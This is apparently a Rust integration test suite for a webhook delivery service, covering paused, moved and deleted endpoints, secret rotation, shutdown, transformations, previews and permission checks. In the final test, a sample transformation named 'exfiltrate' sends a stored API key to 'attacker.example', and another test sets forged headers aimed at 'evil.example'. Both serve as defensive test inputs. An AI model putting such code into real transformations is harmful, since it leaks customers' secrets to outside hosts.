/// reaches `rx`: with one delivery at a time to a slow receiver, the others wait in memory
/// behind it. Their ids, in order.
async fn post_while_one_is_on_the_wire(
    server: &Server,
    app: &str,
    event_type: &str,
    count: usize,
    rx: &Receiver,
) -> Vec<String> {
    let mut sent = Vec::with_capacity(count);
    for i in 0..count {
        sent.push(server.send_message(app, event_type, json!({ "i": i })).await);
    }
    rx.wait_for(1, WAIT).await;
    sent
}

/// Pausing holds also what this node had already taken in memory for the endpoint: only the
/// request on the wire finishes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pausing_holds_the_deliveries_already_in_memory() {
    const COUNT: usize = 10;
    let server = Server::start("[delivery]\nper_endpoint_in_flight = 1").await;
    let slow = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(300))).await;
    let app = server.create_app("paused").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": slow.url })).await;
    post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &slow).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "paused": true }))).await;
    assert_eq!(status, 200, "{out}");
    let at_pause = slow.received().len();
    assert!(at_pause < COUNT - 2, "most messages still waiting when paused ({at_pause} sent)");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let after = slow.received().len();
    assert!(after <= at_pause + 1, "{} sent after the pause (only the one on the wire may)", after - at_pause);
    let (status, _) = server.call("PATCH", &path, Some(json!({ "paused": false }))).await;
    assert_eq!(status, 200);
    let got = slow.wait_for(COUNT, WAIT).await;
    let mut seen: Vec<i64> = got.iter().map(|r| r.json()["i"].as_i64().unwrap()).collect();
    seen.sort();
    seen.dedup();
    assert_eq!(seen, (0..COUNT as i64).collect::<Vec<_>>(), "every message, none lost");
}

/// What a node already holds in memory for an endpoint follows the endpoint's changes: a
/// new URL takes the deliveries waiting (none goes to the URL given up, but the one on the
/// wire), and after an endpoint or its application is deleted nothing more is sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deliveries_in_memory_follow_a_new_url_and_a_deletion() {
    const COUNT: usize = 6;
    let server = Server::start("[delivery]\nper_endpoint_in_flight = 1").await;
    let slow = || Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(400)));
    let (old, new) = (slow().await, Receiver::start().await);
    let app = server.create_app("moved").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": old.url })).await;
    post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &old).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "url": new.url }))).await;
    assert_eq!(status, 200, "{out}");
    let moved_at = old.received().len();
    assert!(moved_at < COUNT - 2, "most messages still waiting when moved ({moved_at} sent)");
    let got = new.wait_for(COUNT - moved_at - 1, WAIT).await;
    assert!(old.received().len() <= moved_at + 1, "only the one on the wire went to the old URL");
    let at_new: std::collections::BTreeSet<i64> = got.iter().map(|r| r.json()["i"].as_i64().unwrap_or(-1)).collect();
    assert!(at_new.len() >= COUNT - moved_at - 1, "{at_new:?}");

    // Deleting the endpoint, then the application of another: nothing more goes out.
    for delete_app in [false, true] {
        let rx = slow().await;
        let app = server.create_app(if delete_app { "gone-app" } else { "gone-endpoint" }).await;
        let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
        post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &rx).await;
        let path = if delete_app { format!("/api/v1/app/{app}") } else { format!("/api/v1/app/{app}/endpoint/{ep}") };
        let (status, out) = server.call("DELETE", &path, None).await;
        assert_eq!(status, 204, "{out}");
        let at_delete = rx.received().len();
        assert!(at_delete < COUNT - 2, "most messages still waiting when deleted ({at_delete} sent)");
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let after = rx.received().len();
        assert!(after <= at_delete + 1, "{} sent after the deletion (app: {delete_app})", after - at_delete);
    }
}

/// Only a change to what a delivery sends reaches those held in memory: one to the
/// endpoint's description hands back none (each hand-back costs a claim and a
/// transformation again); a secret rotated with no grace signs the ones still held with the
/// new secret alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_a_change_to_what_is_sent_reaches_held_deliveries() {
    const COUNT: usize = 6;
    let server = Server::start("[delivery]\nper_endpoint_in_flight = 1").await;
    let rx = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(300))).await;
    let app = server.create_app("held").await;
    let (ep, old_secret) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &rx).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "description": "only words" }))).await;
    assert_eq!(status, 200, "{out}");
    let stale = r#"hooklane_deliveries_handed_back_total{reason="stale"}"#;
    rx.wait_for(3, WAIT).await;
    assert_eq!(metric_value(&server.metrics().await, stale).unwrap_or(0.0), 0.0, "a description handed back nothing");
    let rotate = json!({ "key": "whsec_bmV3LXNlY3JldC1uZXctc2VjcmV0LW5ldy0xMjM0", "gracePeriodSeconds": 0 });
    let (status, out) = server.call("POST", &format!("{path}/secret/rotate"), Some(rotate)).await;
    assert_eq!(status, 200, "{out}");
    let rotated_at = rx.received().len();
    let got = rx.wait_for(COUNT, WAIT).await;
    // The one on the wire at the rotation (and one starting as it was answered) may carry
    // the old signature; the rest carry only the new one.
    let new_secret = "whsec_bmV3LXNlY3JldC1uZXctc2VjcmV0LW5ldy0xMjM0";
    for r in &got[(rotated_at + 1).min(COUNT)..] {
        assert!(signature_valid(new_secret, r) && !signature_valid(&old_secret, r), "signed with the old secret");
    }
    assert!(metric_value(&server.metrics().await, stale).unwrap_or(0.0) > 0.0, "held deliveries were read again");
}

/// A change through the transformation's own route reaches the deliveries held in memory
/// (they are transformed again), and so does a change made while the endpoint was paused,
/// once it is resumed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn changes_by_any_route_or_while_paused_reach_held_deliveries() {
    const COUNT: usize = 6;
    let server = Server::start("[delivery]\nper_endpoint_in_flight = 1").await;
    let slow = || Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(300)));
    let rx = slow().await;
    let app = server.create_app("routes").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &rx).await;
    let code = "function handler(w) { w.headers = { 'x-transformed': 'yes' }; return w }";
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, out) =
        server.call("PATCH", &format!("{path}/transformation"), Some(json!({ "code": code, "enabled": true }))).await;
    assert_eq!(status, 204, "{out}");
    let changed_at = rx.received().len();
    let got = rx.wait_for(COUNT, WAIT).await;
    for r in &got[(changed_at + 1).min(COUNT)..] {
        assert_eq!(r.header("x-transformed"), "yes", "a held delivery was sent as it was prepared before");
    }

    // Paused, moved, resumed: what was held goes to the new URL.
    let (old, new) = (slow().await, Receiver::start().await);
    let (ep, _) = server.create_endpoint(&app, json!({ "url": old.url, "filterTypes": ["moved"] })).await;
    post_while_one_is_on_the_wire(&server, &app, "moved", COUNT, &old).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    for change in [json!({ "paused": true }), json!({ "url": new.url }), json!({ "paused": false })] {
        let (status, out) = server.call("PATCH", &path, Some(change)).await;
        assert_eq!(status, 200, "{out}");
    }
    let at_old = old.received().len();
    new.wait_for(COUNT - at_old - 1, WAIT).await;
    assert!(old.received().len() <= at_old + 1, "only the one on the wire went to the URL given up");
}

/// A shutdown lets the request on the wire finish and sends nothing more: deliveries
/// waiting their endpoint's turn go back to the store at once (not sent one after another
/// through the grace meant for requests on the wire, nor kept leased), and the next start
/// sends them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shutdown_sends_only_what_is_on_the_wire() {
    const COUNT: usize = 5;
    let mut server = Server::start("[delivery]\nper_endpoint_in_flight = 1").await;
    let rx = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(1500))).await;
    let app = server.create_app("stopping").await;
    server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let sent = post_while_one_is_on_the_wire(&server, &app, "a.b", COUNT, &rx).await;
    let pid = server.pid().expect("running").to_string();
    let status = std::process::Command::new("kill").args(["-TERM", &pid]).status().expect("kill");
    assert!(status.success());
    assert!(server.wait_exit(Duration::from_secs(30)), "it stopped");
    let at_stop = rx.received().len();
    assert!(at_stop <= 2, "{at_stop} sent: only what was on the wire when it was told to stop");
    rx.set_script(|_, _| Reply::Status(200));
    server.restart_after_kill();
    // The next start sends the rest (this waits for every one).
    rx.wait_for_ids(&sent, WAIT).await;
}

/// A transformation sees the endpoint's URL without its password. What it sends to the
/// endpoint's own origin carries the endpoint's credentials (the URL's basic
/// authentication, its custom headers); what it sends to another origin carries neither.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transformation_sees_no_credentials_and_takes_none_elsewhere() {
    let server = Server::start("").await;
    let (own, elsewhere) = (Receiver::start().await, Receiver::start().await);
    let app = server.create_app("transformed").await;
    let with_password = own.url.replacen("http://", "http://hook:s3cret@", 1);
    let spec = json!({ "url": format!("{with_password}/in"), "headers": { "X-Api-Key": "k-123" } });
    let (ep, _) = server.create_endpoint(&app, spec).await;
    let code = format!(
        "function handler(webhook) {{ webhook.headers = webhook.headers || {{}}; \
         webhook.headers['x-seen-url'] = webhook.url; \
         webhook.url = webhook.payload.away ? '{}/away' : webhook.url + '/same'; return webhook; }}",
        elsewhere.url
    );
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let (status, body) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
    assert!(status == 200 || status == 204, "{status} {body}");
    let home = server.send_message(&app, "a.b", json!({ "away": false })).await;
    let away = server.send_message(&app, "a.b", json!({ "away": true })).await;
    own.wait_for_ids(std::slice::from_ref(&home), WAIT).await;
    elsewhere.wait_for_ids(std::slice::from_ref(&away), WAIT).await;
    let at_home = &own.received()[0];
    assert_eq!(at_home.header("x-seen-url"), format!("{}/in", own.url), "the code saw no password");
    assert_eq!(at_home.path, "/in/same");
    assert_eq!(at_home.header("authorization"), format!("Basic {}", B64.encode("hook:s3cret")));
    assert_eq!(at_home.header("x-api-key"), "k-123");
    let away = &elsewhere.received()[0];
    assert_eq!(away.path, "/away");
    assert_eq!((away.header("authorization"), away.header("x-api-key")), ("", ""), "no credentials elsewhere");
}

/// A name that does not resolve and one that resolves only to refused addresses are told
/// alike in the attempt log, which tenants read: otherwise any tenant could find which
/// internal names exist through the server's resolver.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_name_and_an_unknown_one_are_told_alike() {
    let server = Server::start("[delivery]\nallow_networks = [\"127.0.0.2/32\"]\nretry_schedule = []").await;
    let app = server.create_app("names").await;
    let mut told = Vec::new();
    for host in ["localhost", "no-such-name.invalid"] {
        let (ep, _) = server.create_endpoint(&app, json!({ "url": format!("http://{host}:9/") })).await;
        let path = format!("/api/v1/app/{app}/attempt/endpoint/{ep}");
        server.send_message(&app, "a.b", json!({})).await;
        let attempts = server.wait_until(&path, WAIT, |b| b["data"].as_array().is_some_and(|a| !a.is_empty())).await;
        let response = attempts["data"][0]["response"].as_str().unwrap_or_default().replace(host, "HOST");
        told.push(response);
        server.call("DELETE", &format!("/api/v1/app/{app}/endpoint/{ep}"), None).await;
    }
    assert!(told[0].contains("is refused"), "{told:?}");
    assert_eq!(told[0], told[1]);
}

/// Posts `body` (JSON text, which may hold what `serde_json::Value` cannot: `1e400`, a lone
/// surrogate) to `path` with the admin token.
async fn post_text(server: &Server, path: &str, body: String) -> (u16, Value) {
    let request = server
        .client
        .post(server.url(path))
        .bearer_auth(ADMIN)
        .header("content-type", "application/json")
        .body(body)
        .send();
    read(request.await.expect("POST")).await
}

/// A payload the API takes but serde cannot read as a value (`1e400`, a lone surrogate) is
/// not made into a body of `null`s by a `transform` template and recorded as a success: its
/// delivery fails at once, saying why, with no retry, and nothing is sent. A preview says
/// the same. A payload it can read is transformed as ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transform_sends_no_nulls_for_a_payload_it_cannot_read() {
    let server = Server::start("[delivery]\nretry_schedule = [\"50ms\"]").await;
    let rx = Receiver::start().await;
    let app = server.create_app("unreadable").await;
    let template = json!({ "id": "{{ id }}", "amount": "{{ amount }}" });
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url, "transform": template })).await;
    let unreadable = [r#"{"id":"evt_1","amount":5,"n":1e400}"#, r#"{"id":"evt_2","amount":5,"note":"\ud800"}"#];
    let mut failed = Vec::new();
    for payload in unreadable {
        let (status, out) = post_text(
            &server,
            &format!("/api/v1/app/{app}/msg"),
            format!(r#"{{"eventType":"a.b","payload":{payload}}}"#),
        )
        .await;
        assert_eq!(status, 202, "{out}");
        // The answer holds the payload, which `Value` cannot hold either: read as text.
        let text = out.as_str().unwrap_or_default();
        let id = text.split(r#""id":""#).find(|s| s.starts_with("msg_")).and_then(|s| s.split('"').next());
        failed.push(id.unwrap_or_else(|| panic!("a message id in {text}")).to_string());
        let preview = format!(r#"{{"payload":{payload}}}"#);
        let (status, out) = post_text(&server, &format!("/api/v1/app/{app}/endpoint/{ep}/preview"), preview).await;
        assert_eq!((status, &out["detail"][0]["loc"]), (422, &json!(["body", "payload"])), "{payload}: {out}");
    }
    let fine = server.send_message(&app, "a.b", json!({ "id": "evt_3", "amount": 7, "n": 1 })).await;
    let got = rx.wait_for(1, WAIT).await;
    assert_eq!((got[0].header("webhook-id"), got[0].json()), (fine.as_str(), json!({ "id": "evt_3", "amount": 7 })));
    for msg in &failed {
        let path = format!("/api/v1/app/{app}/attempt/msg/{msg}");
        let attempts = server.wait_until(&path, WAIT, |b| !b["data"].as_array().unwrap().is_empty()).await;
        let response = attempts["data"][0]["response"].as_str().unwrap_or_default();
        assert!(response.contains("the transform cannot read the payload"), "{attempts}");
    }
    settle().await;
    for msg in &failed {
        let attempts = server.call("GET", &format!("/api/v1/app/{app}/attempt/msg/{msg}"), None).await.1;
        assert_eq!(attempts["data"].as_array().unwrap().len(), 1, "not retried: {attempts}");
        let sent = server.call("GET", &format!("/api/v1/app/{app}/msg/{msg}/endpoint"), None).await.1;
        assert_eq!(sent["data"][0]["status"], 2, "failed: {sent}");
    }
    assert_eq!(rx.received().len(), 1, "nothing was sent for the unreadable payloads");
}

/// A transformation that leaves the payload as it was sends the message's body as it came,
/// with its content type (`transformationsParams.headers.content-type`): only a body it
/// makes is `application/json`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transformation_that_leaves_the_payload_keeps_its_content_type() {
    let server = Server::start("").await;
    let (kept, made) = (Receiver::start().await, Receiver::start().await);
    let app = server.create_app("content-type").await;
    let codes = [
        (&kept, "function handler(w) { w.headers['x-seen'] = 'yes'; return w }"),
        (&made, "function handler(w) { w.payload = { wrapped: w.payload }; return w }"),
    ];
    for (rx, code) in codes {
        let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
        let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
        let (status, out) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
        assert_eq!(status, 204, "{out}");
    }
    let body = json!({ "eventType": "a.b", "payload": { "data": { "id": 1 } },
                       "transformationsParams": { "headers": { "content-type": "application/vnd.api+json" } } });
    let (status, out) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
    assert_eq!(status, 202, "{out}");
    let got = kept.wait_for(1, WAIT).await;
    assert_eq!(got[0].header("x-seen"), "yes", "the code ran");
    assert_eq!(got[0].header("content-type"), "application/vnd.api+json");
    assert_eq!(got[0].json(), json!({ "data": { "id": 1 } }));
    let got = made.wait_for(1, WAIT).await;
    assert_eq!(got[0].header("content-type"), "application/json");
    assert_eq!(got[0].json(), json!({ "wrapped": { "data": { "id": 1 } } }));
}

/// A preview shows what a delivery would send: not the headers hooklane sets itself, which
/// a delivery leaves out whatever the code sets (they are named as dropped), and with no
/// rule making a body, the payload as posted, even one serde cannot read (`1e400`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_preview_shows_what_a_delivery_sends() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("preview-as-sent").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let preview = format!("/api/v1/app/{app}/endpoint/{ep}/preview");
    let code = "function handler(w) { w.headers = { 'content-type': 'text/plain', 'webhook-signature': 'v1,forged', \
                Host: 'evil.example', 'X-Ok': '1' }; return w }";
    let (status, out) =
        server.call("POST", &preview, Some(json!({ "payload": { "a": 1 }, "transformation": code }))).await;
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["headers"], json!({ "X-Ok": "1" }), "{out}");
    assert_eq!(out["droppedHeaders"], json!(["Host", "content-type", "webhook-signature"]), "{out}");
    assert_eq!(out["body"], json!({ "a": 1 }), "{out}");
    // A delivery with that code sends the same.
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
    assert_eq!(status, 204, "{out}");
    let msg = server.send_message(&app, "a.b", json!({ "a": 1 })).await;
    let got = rx.wait_for(1, WAIT).await;
    assert_eq!((got[0].header("webhook-id"), got[0].header("x-ok")), (msg.as_str(), "1"));
    assert_eq!(got[0].header("content-type"), "application/json");
    assert_ne!(got[0].header("webhook-signature"), "v1,forged");
    let (status, _) = server.call("PATCH", &path, Some(json!({ "enabled": false }))).await;
    assert_eq!(status, 204);
    // No rules: the payload as posted, which a delivery sends byte for byte.
    let payload = r#"{"id": "evt_1", "n": 1e400}"#;
    let (status, out) = post_text(&server, &preview, format!(r#"{{"payload": {payload}}}"#)).await;
    let text = out.as_str().unwrap_or_default();
    assert_eq!(status, 200, "{out}");
    assert!(text.contains(&format!(r#""body":{payload}"#)), "{text}");
}

/// Code being saved is checked on one worker shared by the applications: one application
/// checks one at a time (another while one runs is 429 `busy`), so that its token saving
/// slow code from many requests at once cannot keep another application's save from the
/// worker past its wait (503).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_application_checks_its_code_one_at_a_time() {
    let server = Server::start("").await;
    let (greedy, other) = (server.create_app("greedy-checks").await, server.create_app("other-checks").await);
    let (ep, _) = server.create_endpoint(&greedy, json!({ "url": "https://example.com/hook" })).await;
    let (other_ep, _) = server.create_endpoint(&other, json!({ "url": "https://example.com/hook" })).await;
    // Each check runs 2 s, till its worker is killed.
    let slow = "'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b'); function handler(w) { return w }";
    let patch = |app: &str, ep: &str, code: String| {
        let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
        let request = server.client.patch(server.url(&path)).bearer_auth(ADMIN).json(&json!({ "code": code })).send();
        async move {
            let response = request.await.expect("PATCH");
            let retry_after = response.headers().get("retry-after").map(|v| v.to_str().unwrap_or_default().to_string());
            let (status, body) = read(response).await;
            (status, body, retry_after)
        }
    };
    let greedy_saves = futures::future::join_all((0..6).map(|i| patch(&greedy, &ep, format!("{slow} // {i}"))));
    let other_save = async {
        tokio::time::sleep(Duration::from_millis(500)).await;
        let started = Instant::now();
        let code = || patch(&other, &other_ep, "function handler(w) { return w }".into());
        let answer = until_a_worker_was_free(code, |(s, b, _)| (*s, b)).await;
        (answer, started.elapsed())
    };
    let (greedy_answers, ((status, body, _), took)) = tokio::join!(greedy_saves, other_save);
    assert_eq!(status, 204, "another application's save waits for one check at most, {took:?}: {body}");
    let busy: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status == 429).collect();
    assert_eq!(busy.len(), 5, "{greedy_answers:?}");
    for (_, body, retry_after) in busy {
        assert_eq!((&body["code"], retry_after.as_deref()), (&json!("busy"), Some("1")), "{body}");
    }
    // Killed as the code's fault (or, should the machine be too busy to give it the CPU
    // time, handed back as unavailable).
    let ran: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status != 429).collect();
    assert!(matches!(ran[0].0, 422 | 503), "{:?}", ran[0]);
    // Once it has answered, the application checks again.
    let (status, body, _) = patch(&greedy, &ep, "function handler(w) { return w }".into()).await;
    assert_eq!(status, 204, "{body}");
}

/// A token that may change transformations but not see their variables' values
/// (`ManageTransformations` without `ViewEndpointSecret`) cannot keep the stored values
/// under code of its own, which could send them anywhere: new code needs every value given
/// again, or none. Code it leaves as it is keeps them (enabling it, a read-modify-write).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn new_code_from_a_token_that_may_not_see_the_variables_keeps_none() {
    let server = Server::start("").await;
    let app = server.create_app("variables").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": "https://example.com/hook" })).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let own = "function handler(w) { w.headers['x-api-key'] = w.variables.apiKey; return w }";
    let setup = json!({ "code": own, "enabled": true, "variables": { "apiKey": "k-secret-123" } });
    assert_eq!(server.call("PATCH", &path, Some(setup)).await.0, 204);
    let (status, access) = server
        .call(
            "POST",
            &format!("/api/v1/auth/app-portal-access/{app}"),
            Some(json!({ "capabilities": ["ViewBase", "ManageTransformations"] })),
        )
        .await;
    assert_eq!(status, 200, "{access}");
    let token = access["token"].as_str().expect("token").to_string();
    let stored = || async { server.call("GET", &path, None).await.1 };
    let exfiltrate = "function handler(w) { w.url = 'https://attacker.example/?k=' + w.variables.apiKey; return w }";
    for refused in [
        json!({ "code": exfiltrate }),
        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]" } }),
        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]", "region": "eu" } }),
    ] {
        let (status, out) = server.call_as(&token, "PATCH", &path, Some(refused.clone())).await;
        assert_eq!((status, &out["detail"][0]["loc"]), (422, &json!(["body", "variables"])), "{refused}: {out}");
        assert!(out["detail"][0]["msg"].as_str().unwrap_or_default().contains("apiKey"), "{out}");
    }
    let now = stored().await;
    assert_eq!((&now["code"], &now["variables"]), (&json!(own), &json!({ "apiKey": "k-secret-123" })), "{now}");
    // The code as it is keeps them: toggled, or written back as read.
    assert_eq!(server.call_as(&token, "PATCH", &path, Some(json!({ "enabled": false }))).await.0, 204);
    let (_, read_back) = server.call_as(&token, "GET", &path, None).await;
    let back = json!({ "code": read_back["code"], "enabled": true, "variables": read_back["variables"] });
    assert_eq!(server.call_as(&token, "PATCH", &path, Some(back)).await.0, 204);
    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
    // New code with every value given again (values it knows), or with none.
    let given = json!({ "code": exfiltrate, "variables": { "apiKey": "its-own" } });
    assert_eq!(server.call_as(&token, "PATCH", &path, Some(given)).await.0, 204);
    assert_eq!(stored().await["variables"], json!({ "apiKey": "its-own" }));
    let none = json!({ "code": own, "variables": null });
    assert_eq!(server.call_as(&token, "PATCH", &path, Some(none)).await.0, 204);
    assert_eq!(stored().await["variables"], json!({}));
    // Whoever may see them changes the code and keeps them.
    let admin = json!({ "variables": { "apiKey": "k-secret-123" } });
    assert_eq!(server.call("PATCH", &path, Some(admin)).await.0, 204);
    assert_eq!(server.call("PATCH", &path, Some(json!({ "code": exfiltrate }))).await.0, 204);
    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
}
